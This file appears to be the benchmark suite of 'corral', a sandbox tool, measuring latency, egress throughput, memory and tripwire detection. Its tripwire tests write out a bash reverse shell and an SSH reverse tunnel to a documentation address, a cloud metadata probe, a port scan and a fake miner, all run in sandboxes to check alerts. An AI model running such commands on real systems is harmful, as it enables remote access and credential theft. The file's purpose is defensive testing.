"""corral's own benchmark: the numbers behind the targets in the README, as ratios in one run.

    sudo python -m corral.bench                  # warm exec, cold start, 100 idle sandboxes
    sudo python -m corral.bench --idle 1000 --json bench.json
    sudo python -m corral.bench --only warm_exec --runs 1000

Every row compares corral against a baseline measured in the same process, in the same run, on the
same machine, so the ratios mean something wherever it runs; the absolute numbers only describe this
machine. It reports numbers and whether each target is met; it never fails because one is missed
(exit status 1 means a benchmark could not run at all).

Adding a row: write a function `Config -> list[Result]` and decorate it with `@benchmark("name")`.
It runs in registration order; `--only name` runs just it.
"""

from __future__ import annotations

import argparse
import gc
import json
import math
import os
import platform
import resource
import shutil
import statistics
import subprocess
import sys
import threading
import time
from collections.abc import Callable, Sequence
from dataclasses import asdict, dataclass, field
from typing import Literal

import psutil

from corral.detect import rules as detect_rules
from corral.events import Deny
from corral.policy import Policy
from corral.runtime.sandbox import Sandbox

MIB = 1 << 20
_START_ATTEMPTS = 3  # per idle sandbox

# --- results ------------------------------------------------------------------------------------


@dataclass(frozen=True)
class Measure:
    """Summary of samples (ms, MiB, ...): median, 90th percentile (nearest rank), mean, count."""

    median: float
    p90: float
    mean: float
    n: int

    @classmethod
    def of(cls, samples: Sequence[float]) -> Measure:
        if not samples:
            raise ValueError("no samples")
        s = sorted(samples)
        n = len(s)
        mid = n // 2
        median = s[mid] if n % 2 else (s[mid - 1] + s[mid]) / 2
        p90 = s[max(0, math.ceil(0.9 * n) - 1)]
        return cls(median=median, p90=p90, mean=sum(s) / n, n=n)

    @classmethod
    def single(cls, value: float) -> Measure:
        return cls(median=value, p90=value, mean=value, n=1)


@dataclass(frozen=True)
class Target:
    """What the design asks for.

    kind "max": the headline value of corral is under `limit`.
    kind "max_delta": corral's headline is at most `limit` above the baseline's.
    kind "min_ratio": corral's headline is at least `limit` times the baseline's (throughputs).
    kind "max_ratio": corral's headline is at most `limit` times the baseline's (slowdowns).
    """

    kind: Literal["max", "max_delta", "min_ratio", "max_ratio"]
    limit: float
    text: str


@dataclass(frozen=True)
class Result:
    """One row of the table."""

    key: str  # stable identifier (JSON)
    what: str  # what the table shows
    unit: str
    corral: Measure
    target: Target
    baseline: Measure | None = None
    baseline_name: str | None = None
    headline: Literal["median", "mean"] = "median"  # which statistic the target is about
    notes: dict[str, float | int | str] = field(default_factory=dict)

    def value(self, m: Measure) -> float:
        return m.median if self.headline == "median" else m.mean

    @property
    def delta(self) -> float | None:
        return None if self.baseline is None else self.value(self.corral) - self.value(self.baseline)

    @property
    def ratio(self) -> float | None:
        if self.baseline is None or self.value(self.baseline) == 0:
            return None
        return self.value(self.corral) / self.value(self.baseline)

    @property
    def met(self) -> bool | None:
        t = self.target
        if t.kind == "max":
            return self.value(self.corral) < t.limit
        if t.kind == "max_delta":
            return None if self.delta is None else self.delta <= t.limit
        if t.kind == "max_ratio":
            return None if self.ratio is None else self.ratio <= t.limit
        return None if self.ratio is None else self.ratio >= t.limit

    def to_json(self) -> dict[str, object]:
        d = asdict(self)
        d.update(delta=self.delta, ratio=self.ratio, met=self.met)
        return d


@dataclass(frozen=True)
class Config:
    warm_runs: int
    cold_runs: int
    idle: int
    warmup: int
    settle: float  # seconds to let memory settle before sampling it
    quick: bool


BenchFn = Callable[[Config], list[Result]]
_REGISTRY: dict[str, BenchFn] = {}


def benchmark(name: str) -> Callable[[BenchFn], BenchFn]:
    """Register a benchmark; it runs in registration order and may return several rows."""

    def register(fn: BenchFn) -> BenchFn:
        if name in _REGISTRY:
            raise ValueError(f"benchmark {name!r} registered twice")
        _REGISTRY[name] = fn
        return fn

    return register


class BenchError(Exception):
    """A benchmark could not run (as opposed to: ran and missed its target)."""


# --- helpers ------------------------------------------------------------------------------------


def _progress(msg: str) -> None:
    print(f"bench: {msg}", file=sys.stderr, flush=True)


def _time_ms(fn: Callable[[], object], runs: int, warmup: int) -> list[float]:
    """Wall time of `runs` calls of `fn` in ms, after `warmup` untimed calls."""
    for _ in range(warmup):
        fn()
    gc.collect()
    out: list[float] = []
    for _ in range(runs):
        t0 = time.perf_counter_ns()
        fn()
        out.append((time.perf_counter_ns() - t0) / 1e6)
    return out


def _open(failures: list[str], what: str) -> Sandbox:
    """A new sandbox. A failed start is recorded in `failures` (shown in the row's notes) and retried,
    so one flaky start does not lose a row; the same start failing repeatedly stops the benchmark."""
    for attempt in range(1, _START_ATTEMPTS + 1):
        try:
            return Sandbox(keep_workspace=False)
        except Exception as e:
            failures.append(f"{what}: {type(e).__name__}: {e}")
            _progress(f"start failed (attempt {attempt}): {failures[-1]}")
            if attempt == _START_ATTEMPTS:
                raise BenchError(failures[-1]) from e
    raise AssertionError("unreachable")


def _failure_notes(failures: list[str]) -> dict[str, float | int | str]:
    notes: dict[str, float | int | str] = {"start_failures_retried": len(failures)}
    if failures:
        notes["first_start_failure"] = failures[0]
    return notes


def _check_exec(sb: Sandbox) -> None:
    r = sb.exec(["true"])
    if r.exit_code != 0:
        raise BenchError(f"`true` in a sandbox exited {r.exit_code}: {r.stderr!r}")


def _wait_reaped(sandboxes: Sequence[Sandbox], timeout: float = 60.0) -> float:
    """Wait until every sandbox's background teardown is done; seconds waited."""
    t0 = time.monotonic()
    deadline = t0 + timeout
    for sb in sandboxes:
        if not sb._reaped.wait(max(0.0, deadline - time.monotonic())):
            raise BenchError(f"sandbox {sb.id} was not torn down within {timeout:g}s of close()")
    return time.monotonic() - t0


def _mem_available() -> int:
    with open("/proc/meminfo") as f:
        for line in f:
            if line.startswith("MemAvailable:"):
                return int(line.split()[1]) * 1024
    raise BenchError("/proc/meminfo has no MemAvailable")


def bwrap_argv(command: Sequence[str]) -> list[str] | None:
    """bwrap with isolation close to a default sandbox's (all namespaces, read-only /usr), or None."""
    bwrap = shutil.which("bwrap")
    if bwrap is None:
        return None
    argv = [bwrap, "--unshare-all", "--die-with-parent", "--ro-bind", "/usr", "/usr"]
    for name in ("bin", "sbin", "lib", "lib32", "lib64"):
        path = f"/{name}"
        if os.path.islink(path):
            argv += ["--symlink", os.readlink(path), path]
        elif os.path.isdir(path):
            argv += ["--ro-bind", path, path]
    argv += ["--proc", "/proc", "--dev", "/dev", "--tmpfs", "/tmp", "--new-session", *command]
    return argv


def _run_ok(argv: list[str]) -> None:
    r = subprocess.run(argv, stdin=subprocess.DEVNULL, capture_output=True, check=False)
    if r.returncode != 0:
        raise BenchError(f"{argv[0]} exited {r.returncode}: {r.stderr.decode(errors='replace').strip()}")


def _ensure_fds(needed: int) -> None:
    soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    if soft != resource.RLIM_INFINITY and soft < needed:
        new = needed if hard == resource.RLIM_INFINITY else min(hard, needed)
        resource.setrlimit(resource.RLIMIT_NOFILE, (new, hard))
        if new < needed:
            raise BenchError(f"needs {needed} open files, RLIMIT_NOFILE hard limit is {hard}")


def _ensure_pids(needed: int) -> None:
    used = len(psutil.pids())
    for path in ("/proc/sys/kernel/pid_max", "/proc/sys/kernel/threads-max"):
        with open(path) as f:
            limit = int(f.read())
        if limit - used < needed:
            raise BenchError(f"needs {needed} more processes; {path} is {limit} and {used} are running")


# --- benchmarks ---------------------------------------------------------------------------------


@benchmark("warm_exec")
def bench_warm_exec(cfg: Config) -> list[Result]:
    _progress(f"warm exec: {cfg.warm_runs} runs each")
    base = _time_ms(lambda: _run_ok(["true"]), cfg.warm_runs, cfg.warmup)
    failures: list[str] = []
    sb = _open(failures, "warm sandbox")
    try:
        ours = _time_ms(lambda: _check_exec(sb), cfg.warm_runs, cfg.warmup)
    finally:
        sb.close(wait=True)
    return [
        Result(
            key="warm_exec",
            what="warm exec `true`",
            unit="ms",
            corral=Measure.of(ours),
            baseline=Measure.of(base),
            baseline_name="subprocess.run",
            target=Target("max_delta", 2.0, "<= +2 ms"),
            notes=_failure_notes(failures),
        )
    ]


@benchmark("cold")
def bench_cold(cfg: Config) -> list[Result]:
    _progress(f"cold start: {cfg.cold_runs} runs each")
    argv = bwrap_argv(["true"])
    base: Measure | None = None
    notes: dict[str, float | int | str] = {}
    if argv is None:
        notes["baseline"] = "bwrap not installed"
    else:
        try:
            base = Measure.of(_time_ms(lambda: _run_ok(argv), cfg.cold_runs, cfg.warmup))
        except BenchError as e:
            notes["baseline"] = f"bwrap failed: {e}"

    failures_wait: list[str] = []
    failures: list[str] = []

    def cycle_wait() -> None:
        sb = _open(failures_wait, "cold sandbox")
        try:
            _check_exec(sb)
        finally:
            sb.close(wait=True)

    waited = _time_ms(cycle_wait, cfg.cold_runs, cfg.warmup)

    # Default close: teardown continues on corral's reaper thread, overlapping the next runs, as it
    # would in an agent loop. The backlog left at the end is drained untimed and reported.
    closed: list[Sandbox] = []

    def cycle() -> None:
        sb = _open(failures, "cold sandbox")
        closed.append(sb)
        try:
            _check_exec(sb)
        finally:
            sb.close()

    try:
        background = _time_ms(cycle, cfg.cold_runs, cfg.warmup)
    finally:
        drain = _wait_reaped(closed)
    target = Target("max", 25.0, "< 25 ms")
    base_name = "bwrap" if base is not None else None
    return [
        Result(
            key="cold_close",
            what="cold create+exec+close()",
            unit="ms",
            corral=Measure.of(background),
            baseline=base,
            baseline_name=base_name,
            target=target,
            notes={**notes, "teardown_backlog_drain_s": round(drain, 4), **_failure_notes(failures)},
        ),
        Result(
            key="cold_close_wait",
            what="cold create+exec+close(wait=True)",
            unit="ms",
            corral=Measure.of(waited),
            baseline=base,
            baseline_name=base_name,
            target=target,
            notes={**notes, **_failure_notes(failures_wait)},
        ),
    ]


# --- egress ---------------------------------------------------------------------------------

_EGRESS_NAME = "bench.example.internal"
# Run the same way on the host (baseline) and in the sandbox (through corral's proxy): the time is
# measured by the client itself, so both sides pay the same interpreter start-up.
_THROUGHPUT_CLIENT = """
import socket, sys, time
t = time.perf_counter(); s = socket.create_connection((sys.argv[1], int(sys.argv[2]))); n = 0
s.sendall(b"GET /blob HTTP/1.1\\r\\nHost: " + sys.argv[1].encode() + b"\\r\\n\\r\\n")
while chunk := s.recv(1 << 20):
    n += len(chunk)
print(n / (time.perf_counter() - t) / 2**20)
"""
_CONNECT_CLIENT = """
import socket, sys, time
ts = []
for _ in range(int(sys.argv[3])):
    t = time.perf_counter(); s = socket.create_connection((sys.argv[1], int(sys.argv[2])))
    s.recv(1); s.close()
    ts.append((time.perf_counter() - t) * 1000)
print(" ".join(f"{x:.4f}" for x in ts))
"""


_SERVER = """
import socket, sys
size = int(sys.argv[1]); srv = socket.create_server(("127.0.0.1", 0), backlog=256)
print(srv.getsockname()[1], flush=True)
block = bytes(1 << 20)
while True:
    conn, _ = srv.accept()
    with conn:
        if size > 1:
            conn.recv(4096)  # a download is asked for (an HTTP request), then streamed
        left = size
        try:
            while left > 0:
                left -= conn.send(block[: min(left, len(block))])
        except OSError:
            pass
"""


class _LocalServer:
    """A loopback server, in its own process so it competes with neither side for the GIL, that
    sends `size` bytes to each client (1 byte for latency runs)."""

    def __init__(self, size: int) -> None:
        self.proc = subprocess.Popen(
            ["/usr/bin/python3", "-c", _SERVER, str(size)], stdout=subprocess.PIPE, text=True
        )
        assert self.proc.stdout is not None
        self.port = int(self.proc.stdout.readline())

    def close(self) -> None:
        self.proc.kill()
        self.proc.wait()
        if self.proc.stdout is not None:
            self.proc.stdout.close()


def _host_python(script: str, *args: str) -> str:
    out = subprocess.run(
        ["/usr/bin/python3", "-c", script, *args], capture_output=True, text=True, check=True
    )
    return out.stdout


@benchmark("egress")
def bench_egress(cfg: Config) -> list[Result]:

    runs = 3 if cfg.quick else 11
    size = (16 if cfg.quick else 256) << 20
    _progress(f"egress: throughput ({runs} x {size >> 20} MiB) and connection set-up")
    bulk, tiny = _LocalServer(size), _LocalServer(1)
    policy = Policy.from_dict(
        {
            "version": 1,
            # The baseline client runs without a CPU quota; so does this one.
            "resources": {"cpu": float(os.cpu_count() or 1)},
            "network": {
                "egress": [
                    {"host": _EGRESS_NAME, "ports": [bulk.port], "protocols": ["http"]},
                    {"host": _EGRESS_NAME, "ports": [tiny.port], "protocols": ["any"]},
                ],
                "hosts": {_EGRESS_NAME: "127.0.0.1"},
                "limits": {"connections_per_minute": 100000, "bytes_out_per_minute": "1GiB"},
            },
        }
    )
    sb = Sandbox(policy, keep_workspace=False)
    try:
        # Interleaved, so that whatever else the machine is doing weighs on both sides alike.
        direct: list[float] = []
        proxied: list[float] = []
        for _ in range(runs):
            direct.append(float(_host_python(_THROUGHPUT_CLIENT, "127.0.0.1", str(bulk.port))))
            r = sb.exec(["python3", "-c", _THROUGHPUT_CLIENT, _EGRESS_NAME, str(bulk.port)], text=True)
            proxied.append(float(str(r.stdout)))
        n = "20" if cfg.quick else "200"
        base_conn = [float(x) for x in _host_python(_CONNECT_CLIENT, "127.0.0.1", str(tiny.port), n).split()]
        r = sb.exec(["python3", "-c", _CONNECT_CLIENT, _EGRESS_NAME, str(tiny.port), n], text=True)
        ours_conn = [float(x) for x in str(r.stdout).split()]
    finally:
        sb.close(wait=True)
        bulk.close()
        tiny.close()
    pairs = [p / d for p, d in zip(proxied, direct, strict=True) if d > 0]
    return [
        Result(
            key="proxy_throughput",
            what="TCP download through the proxy",
            unit="MiB/s",
            corral=Measure.of(proxied),
            baseline=Measure.of(direct),
            baseline_name="direct loopback",
            target=Target("min_ratio", 0.5, ">= 50 %"),
            # The direct baseline swings most between runs on a shared machine; each proxied run's
            # ratio to the direct run just before it shows how much of the spread is the baseline's.
            notes={
                "pair_ratio_median": round(statistics.median(pairs), 3),
                "pair_ratio_min": round(min(pairs), 3),
                "pair_ratio_max": round(max(pairs), 3),
            },
        ),
        Result(
            key="proxy_connect",
            what="connect + first byte",
            unit="ms",
            corral=Measure.of(ours_conn),
            baseline=Measure.of(base_conn),
            baseline_name="direct loopback",
            target=Target("max_delta", 5.0, "<= +5 ms"),
            notes={
                "includes": "the name's two DNS queries (A, AAAA) to corral's resolver, attribution, "
                "policy check, upstream dial; the baseline dials 127.0.0.1"
            },
        ),
    ]


_NUMERIC_JOB = """
import multiprocessing as mp, os, sys, time
def work(n):
    s = 0.0
    for i in range(n):
        s += (i % 7) * 0.5
    return s
if __name__ == "__main__":
    n = int(sys.argv[1])
    t = time.perf_counter()
    with mp.Pool(os.cpu_count()) as pool:
        pool.map(work, [n] * os.cpu_count())
    print(time.perf_counter() - t)
"""

# Benign agent work: a parallel C build, a test suite, git. Written to a file and run with sh.
_BENIGN = "\n".join(
    [
        "set -e",
        "mkdir -p proj && cd proj",
        *[f"printf 'int f{i}(int x) {{ return x * {i}; }}\\n' > f{i}.c" for i in range(1, 9)],
        "printf 'int f1(int);\\nint main(void) { return f1(0); }\\n' > main.c",
        "printf 'OBJS = main.o f1.o f2.o f3.o f4.o f5.o f6.o f7.o f8.o\\napp: $(OBJS)\\n"
        "\\tcc -o $@ $(OBJS)\\n' > Makefile",
        "make -j2 -s && ./app",
        "printf 'import unittest\\nclass T(unittest.TestCase):\\n"
        "    def test_a(self): self.assertEqual(1 + 1, 2)\\n' > test_x.py",
        "python3 -m unittest -q test_x 2>/dev/null",
        'g() { git -c user.email=agent@example.internal -c user.name=agent "$@"; }',
        "g init -q . && g add -A && g commit -qm one",
        "g checkout -q -b topic && echo '/* x */' >> main.c && g commit -qam two",
        "g checkout -q - && g merge -q topic && g log --oneline | wc -l",
        "",
    ]
)


def _tripwire_policy(enabled: bool, **responses: str) -> Policy:
    return Policy.from_dict(
        {
            "version": 1,
            "resources": {"cpu": float(os.cpu_count() or 1)},
            "tripwires": {"enabled": enabled, "responses": responses},
        }
    )


def _host_pid(sb: Sandbox, ns_pid: int) -> int | None:
    assert sb._cgroup is not None
    for pid in sb._cgroup.pids():
        try:
            with open(f"/proc/{pid}/status") as f:
                for line in f:
                    if line.startswith("NSpid:") and int(line.split()[-1]) == ns_pid:
                        return pid
        except OSError:
            continue
    return None


def _wait_gone(sb: Sandbox, pid: int, timeout: float) -> bool:
    """Poll every 5 ms until `pid` left the sandbox; False if it outlived `timeout`."""
    assert sb._cgroup is not None
    deadline = time.monotonic() + timeout
    while time.monotonic() < deadline:
        if pid not in sb._cgroup.pids():
            return True
        time.sleep(0.005)
    return False


@benchmark("tripwires")
def bench_tripwires(cfg: Config) -> list[Result]:
    runs = 2 if cfg.quick else 5
    return [
        _bench_overhead(cfg, runs),
        *_bench_miner_kill(runs),
        *_bench_first_attempt(),
        _bench_benign(),
    ]


def _bench_overhead(cfg: Config, runs: int) -> Result:
    """An all-core CPU-bound job in two sandboxes alike but for monitoring, runs interleaved."""
    runs = runs if cfg.quick else 2 * runs + 1
    _progress(f"tripwires: monitoring overhead ({runs} x 2 runs of an all-core job)")
    # About 2 s per run on this project's machine: long enough that a 2 % difference is not noise.
    work = "300000" if cfg.quick else "30000000"
    on = Sandbox(_tripwire_policy(True), keep_workspace=False)
    off = Sandbox(_tripwire_policy(False), keep_workspace=False)
    monitored: list[float] = []
    plain: list[float] = []
    try:
        for sb in (on, off):
            sb.write_file("job.py", _NUMERIC_JOB)
        pairs = [(off, plain), (on, monitored)]
        for i in range(runs):
            # Alternating which goes first, so that neither side always runs on a warmer machine.
            for sb, out in pairs if i % 2 == 0 else pairs[::-1]:
                r = sb.exec(["python3", "job.py", work], text=True, timeout=600)
                if r.exit_code != 0:
                    raise BenchError(f"numeric job failed: {r.stderr!r}")
                out.append(float(str(r.stdout)))
        alerts = len(on.alerts())
    finally:
        on.close()
        off.close()
    return Result(
        key="monitoring_overhead",
        what="all-core CPU job, monitored",
        unit="s",
        corral=Measure.of(monitored),
        baseline=Measure.of(plain),
        baseline_name="tripwires off",
        target=Target("max_ratio", 1.02, "<= +2 %"),
        notes={"alerts": alerts, "workers": os.cpu_count() or 1},
    )


def _bench_miner_kill(runs: int) -> list[Result]:
    # A miner with a clean name and command line that outlives its command: only the CPU rule can
    # see it. Timed from the command's return, when the miner is already running.
    _progress(f"tripwires: miner after the command ({runs} runs)")
    cpu_kill: list[float] = []
    with Sandbox(_tripwire_policy(True), keep_workspace=False) as sb:
        for i in range(runs):
            r = sb.exec(f"python3 -c 'while True: pass' {i} >/dev/null 2>&1 & echo $!", text=True)
            t0 = time.monotonic()
            pid = _host_pid(sb, int(str(r.stdout)))
            if pid is None:
                raise BenchError("the background miner did not start")
            if not _wait_gone(sb, pid, 20):
                raise BenchError("the CPU rule did not kill a miner within 20 s")
            cpu_kill.append(time.monotonic() - t0)
    # A miner its content gives away: killed at its execve, before it runs an instruction.
    _progress(f"tripwires: miner recognised at exec ({runs} runs)")
    exec_kill: list[float] = []
    with Sandbox(_tripwire_policy(True), keep_workspace=False) as sb:
        sb.write_file("/tmp/kworker", "#!/bin/sh\n# mining.subscribe\nwhile :; do :; done\n")
        sb.exec("chmod +x /tmp/kworker")
        for _ in range(runs):
            t0 = time.monotonic()
            r = sb.exec(["/tmp/kworker"])
            if r.exit_code != 137:
                raise BenchError(f"the renamed miner was not killed (exit {r.exit_code})")
            exec_kill.append(time.monotonic() - t0)
    return [
        Result(
            key="miner_cpu_kill",
            what="miner (CPU only) started -> killed",
            unit="s",
            corral=Measure.of(cpu_kill),
            target=Target("max", 2.0, "< 2 s"),
            notes={"rule": "cpu burnt outside a command", "sample_interval_s": 0.25, "sustained_s": 1},
        ),
        Result(
            key="miner_exec_kill",
            what="miner (by content) started -> killed",
            unit="s",
            corral=Measure.of(exec_kill),
            target=Target("max", 2.0, "< 2 s"),
            notes={"rule": "miner content", "instructions_run": 0},
        ),
    ]


_ATTACKS: list[tuple[str, str, str | list[str]]] = [
    # A scan by a program no rule knows by name: the network rules must see it.
    (
        "probe",
        "probe",
        [
            "python3",
            "-c",
            "import socket\nfor i in range(1, 17):\n"
            "    try: socket.create_connection(('10.0.0.%d' % i, 22), 1)\n    except OSError: pass",
        ],
    ),
    ("tunnel", "tunnel", "ssh -o BatchMode=yes -o ConnectTimeout=3 -N -R 9000:localhost:22 u@203.0.113.9"),
    ("reverse shell", "reverse_shell", "bash -c 'bash -i >& /dev/tcp/203.0.113.9/4444 0>&1'"),
    ("metadata probe", "probe", "curl -s -m 3 --noproxy '*' http://169.254.169.254/latest/meta-data/"),
]


def _bench_first_attempt() -> list[Result]:
    """How many connection attempts each attack made before its alert (0: caught at its start)."""
    _progress("tripwires: first-attempt detection (probe, tunnel, reverse shell)")
    out: list[Result] = []
    for name, category, command in _ATTACKS:
        with Sandbox(_tripwire_policy(True, **{category: "alert"}), keep_workspace=False) as sb:
            sb.exec(command, timeout=60)
            events = sb.events()
        first = next((e for e in events if e.type == "alert" and e.category == category), None)
        if first is None:
            raise BenchError(f"{name}: no {category} alert for {command!r}")
        before = events[: events.index(first)]
        attempts = sum(1 for e in before if e.type == "net.connect")
        out.append(
            Result(
                key=f"first_attempt_{category}_{name.split()[0]}",
                what=f"{name}: connection attempts up to the alert",
                unit="",
                corral=Measure.single(attempts),
                target=Target("max", 1.5, "at the first"),
                notes={
                    "rule": first.rule,
                    "alert_after_start_s": round((first.time - events[0].time).total_seconds(), 3),
                },
            )
        )
    return out


def _bench_benign() -> Result:
    _progress("tripwires: benign work (make -j2, unittest, git)")
    with Sandbox(_tripwire_policy(True), keep_workspace=False) as sb:
        sb.write_file("benign.sh", _BENIGN)
        r = sb.exec(["sh", "benign.sh"], timeout=300, text=True)
        if r.exit_code != 0:
            raise BenchError(f"benign work failed: {r.stderr!r}")
        alerts = [f"{a.rule}: {a.message}" for a in sb.alerts()]
        programs = sum(1 for e in sb.events() if e.type == "proc.exec")
    notes: dict[str, float | int | str] = {"programs_started": programs}
    if alerts:
        notes["first_alert"] = alerts[0]
    return Result(
        key="benign_alerts",
        what="alerts on benign work",
        unit="",
        corral=Measure.single(len(alerts)),
        target=Target("max", 0.5, "none"),
        notes=notes,
    )


_FLOOD = r"""
import ctypes, os, random, resource, socket, struct, subprocess, sys, threading, time
seconds, holders, fds = float(sys.argv[1]), int(sys.argv[2]), int(sys.argv[3])
end = time.monotonic() + seconds
soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
fds = min(fds, hard - 64)
resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))
for _ in range(holders):  # processes whose descriptors every exec's pipe check has to read
    if os.fork() == 0:
        held = [os.open("/dev/null", os.O_RDONLY) for _ in range(fds)]
        time.sleep(seconds + 5)
        os._exit(0)
libc = ctypes.CDLL(None)
resolver = open("/etc/resolv.conf").read().split("nameserver")[1].split()[0]

def execs():  # an interactive shell on pipes: the dearest exec for the tripwires to judge
    while time.monotonic() < end:
        subprocess.run(["sh"], input=b"true\n")

def denials():
    while time.monotonic() < end:
        libc.unshare(0x10000000)  # CLONE_NEWUSER, refused by seccomp

def connects():
    while time.monotonic() < end:
        s = socket.socket()
        s.settimeout(1)
        try:
            s.connect(("10.0.0.1", 80))  # an internal address: refused by the fence
        except OSError:
            pass
        s.close()

def dns():  # distinct names under an allowed wildcard, as fast as they can be sent
    q = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    q.setblocking(False)
    n = 0
    while time.monotonic() < end:
        n += 1
        name = b"".join(bytes([len(p)]) + p for p in (b"n%d" % n, b"flood", b"bench", b"internal"))
        try:
            header = struct.pack(">HHHHHH", n & 0xFFFF, 0x100, 1, 0, 0, 0)
            q.sendto(header + name + b"\0" + struct.pack(">HH", 1, 1), (resolver, 53))
            while True:
                q.recv(512)
        except OSError:
            time.sleep(0.0005)

threads = [threading.Thread(target=f) for f in (execs, execs, denials, connects, dns)]
for t in threads:
    t.start()
for t in threads:
    t.join()
"""

_QUIET_DNS = r"""
import socket, sys, time
out = []
for i in range(int(sys.argv[1])):
    t0 = time.perf_counter()
    socket.getaddrinfo("quiet.bench.internal", 443, socket.AF_INET, socket.SOCK_STREAM)
    out.append((time.perf_counter() - t0) * 1000)
print(" ".join(f"{x:.3f}" for x in out))
"""


_FLOOD_HOLDERS, _FLOOD_FDS = 20, 1000


def _p99(samples: Sequence[float]) -> float:
    s = sorted(samples)
    return round(s[max(0, math.ceil(0.99 * len(s)) - 1)], 3)


@benchmark("fairness")
def bench_fairness(cfg: Config) -> list[Result]:
    """A quiet sandbox's exec and DNS latency alone, then while another floods execs (of shells on
    pipes, with 20 of its processes holding 1,000 descriptors each), refused calls,
    connections to refused addresses and DNS queries for distinct names."""
    runs = cfg.warm_runs
    _progress(f"fairness: {runs} quiet execs and lookups, alone and beside a flooding sandbox")
    quiet = Sandbox(
        Policy.from_dict(
            {
                "version": 1,
                "network": {
                    "egress": [{"host": "quiet.bench.internal", "ports": [443]}],
                    "hosts": {"quiet.bench.internal": "127.0.0.1"},
                },
            }
        ),
        keep_workspace=False,
    )
    flood_policy = Policy.from_dict(
        {
            "version": 1,
            "resources": {"processes": 256},
            "network": {"egress": [{"host": "*.flood.bench.internal", "ports": [443]}]},
            # Judged (and recorded) like any sandbox's, but left running: the flood is the point.
            "tripwires": {"responses": dict.fromkeys(detect_rules.CATEGORIES, "log")},
        }
    )
    flooder: Sandbox | None = None
    flood: threading.Thread | None = None
    try:

        def measure() -> tuple[list[float], list[float]]:
            execs = _time_ms(lambda: _check_exec(quiet), runs, cfg.warmup)
            r = quiet.exec(["python3", "-c", _QUIET_DNS, str(runs)], text=True)
            if r.exit_code != 0:
                raise BenchError(f"quiet DNS lookups failed: {r.stderr!r}")
            return execs, [float(x) for x in str(r.stdout).split()]

        alone_exec, alone_dns = measure()
        flooder = Sandbox(flood_policy, keep_workspace=False)
        seconds = 600.0  # cut short by the close below
        flood = threading.Thread(
            target=flooder.exec,
            args=(["python3", "-c", _FLOOD, str(seconds), str(_FLOOD_HOLDERS), str(_FLOOD_FDS)],),
            kwargs={"timeout": seconds},
            daemon=True,
        )
        flood.start()
        time.sleep(2.0 if not cfg.quick else 1.0)  # the holders open their descriptors, the loops start
        flooded_exec, flooded_dns = measure()
        events = flooder.events()
        denied = sum(getattr(e, "count", 1) for e in events if isinstance(e, Deny))
        execs = sum(1 for e in events if e.type == "proc.exec")
        queries = sum(1 for e in events if e.type == "dns.query")
        kept = len(events)
        elided = getattr(flooder, "events_elided", 0)
    finally:
        if flooder is not None:
            flooder.close(wait=True)
        if flood is not None:
            flood.join(10)
        quiet.close(wait=True)
    notes: dict[str, float | int | str] = {
        "exec_p99_alone_ms": _p99(alone_exec),
        "exec_p99_flooded_ms": _p99(flooded_exec),
        "flood_denials_seen": denied,
        "flood_execs_seen": execs,
        "flood_queries_seen": queries,
        "flood_events_kept": kept,
        "flood_events_elided": elided,
    }
    return [
        Result(
            key="fairness_exec",
            what="quiet `true` beside a flood",
            unit="ms",
            corral=Measure.of(flooded_exec),
            baseline=Measure.of(alone_exec),
            baseline_name="quiet alone",
            target=Target("max_delta", 5.0, "<= +5 ms"),
            notes=notes,
        ),
        Result(
            key="fairness_dns",
            what="quiet DNS lookup beside a flood",
            unit="ms",
            corral=Measure.of(flooded_dns),
            baseline=Measure.of(alone_dns),
            baseline_name="quiet alone",
            target=Target("max_delta", 5.0, "<= +5 ms"),
            notes={"dns_p99_alone_ms": _p99(alone_dns), "dns_p99_flooded_ms": _p99(flooded_dns)},
        ),
    ]


@benchmark("idle_memory")
def bench_idle_memory(cfg: Config) -> list[Result]:
    n = cfg.idle
    if n <= 0:
        return []
    _progress(f"idle memory: opening {n} sandboxes")
    _ensure_fds(8 * n + 1024)  # pidfd, control socket, seccomp notify fd per sandbox, plus headroom
    _ensure_pids(n + 64)
    failures: list[str] = []
    _open(failures, "warm-up sandbox").close(wait=True)  # load everything the first sandbox loads
    gc.collect()
    time.sleep(cfg.settle)
    before = _mem_available()
    sandboxes: list[Sandbox] = []
    create_ms: list[float] = []
    try:
        for i in range(n):
            t0 = time.perf_counter_ns()
            sandboxes.append(_open(failures, f"idle sandbox {i + 1} of {n}"))
            create_ms.append((time.perf_counter_ns() - t0) / 1e6)
            if (i + 1) % 100 == 0:
                _progress(f"idle memory: {i + 1}/{n} open")
        gc.collect()
        time.sleep(cfg.settle)
        after = _mem_available()
        pss: list[float] = []
        uss: list[float] = []
        charged: list[float] = []
        for sb in sandboxes:
            assert sb._launched is not None and sb._cgroup is not None
            info = psutil.Process(sb._launched.init_pid).memory_full_info()
            pss.append(info.pss / MIB)
            uss.append(info.uss / MIB)
            charged.append(sb._cgroup.usage().memory_bytes / MIB)
        alive = sum(
            1 for sb in sandboxes if sb._launched is not None and psutil.pid_exists(sb._launched.init_pid)
        )
    finally:
        t0 = time.perf_counter_ns()
        for sb in sandboxes:
            sb.close()
        close_s = (time.perf_counter_ns() - t0) / 1e9
        _progress(f"idle memory: closed {len(sandboxes)}, waiting for teardown")
        reap_s = _wait_reaped(sandboxes, timeout=max(60.0, 0.5 * len(sandboxes)))
    tenth = max(1, n // 10)
    notes: dict[str, float | int | str] = {
        "sandboxes": n,
        "alive_at_sample": alive,
        "mem_available_drop_mib": round((before - after) / MIB, 1),
        "create_ms_median": round(Measure.of(create_ms).median, 3),
        "create_ms_p90": round(Measure.of(create_ms).p90, 3),
        "create_ms_first_tenth_median": round(Measure.of(create_ms[:tenth]).median, 3),
        "create_ms_last_tenth_median": round(Measure.of(create_ms[-tenth:]).median, 3),
        "close_all_s": round(close_s, 3),
        "teardown_all_s": round(reap_s, 3),
        **_failure_notes(failures),
    }
    target = Target("max", 4.0, "< 4 MiB")
    return [
        Result(
            key="idle_mem_available",
            what=f"idle sandbox, host MemAvailable drop / {n}",
            unit="MiB",
            corral=Measure.single((before - after) / MIB / n),
            target=target,
            headline="mean",
            notes=notes,
        ),
        Result(
            key="idle_init_pss",
            what=f"idle sandbox, init PSS (sum / {n})",
            unit="MiB",
            corral=Measure.of(pss),
            target=target,
            headline="mean",
            notes={
                "uss_mib_mean": round(Measure.of(uss).mean, 3),
                "uss_mib_median": round(Measure.of(uss).median, 3),
                "cgroup_memory_mib_mean": round(Measure.of(charged).mean, 3),
            },
        ),
    ]


